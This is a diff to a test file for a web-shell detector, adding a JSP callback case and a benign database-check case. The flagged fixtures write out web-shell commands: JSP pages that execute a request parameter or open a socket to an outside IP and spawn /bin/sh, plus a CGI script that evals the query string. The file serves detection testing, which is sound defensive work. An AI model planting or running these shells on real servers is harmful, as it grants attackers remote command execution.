@@ -35,11 +35,17 @@ indicatorTable(commandWebShell, {
     'a page of a server in Java': script(
       `echo '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' > /usr/local/tomcat/webapps/ROOT/a.jsp`,
     ),
+    'a page that calls back': script(
+      `echo '<% Socket s = new Socket("203.0.113.7", 443); Process p = Runtime.getRuntime().exec("/bin/sh"); %>' > /w/a.jsp`,
+    ),
     'a script behind a gateway': script(
       `printf '#!/bin/sh\necho; eval "$(echo $QUERY_STRING | sed s/+/ /g)"' > /w/cgi-bin/x; chmod +x /w/cgi-bin/x; httpd -f -h /w`,
     ),
   },
   staysSilent: {
+    'a page that asks a database': script(
+      `echo '<% Socket s = new Socket("db", 5432); out.print(s.isConnected()); %>' > /w/health.jsp`,
+    ),
     'a class of Python with a path of its own': runs(
       'python3',
       '-c',
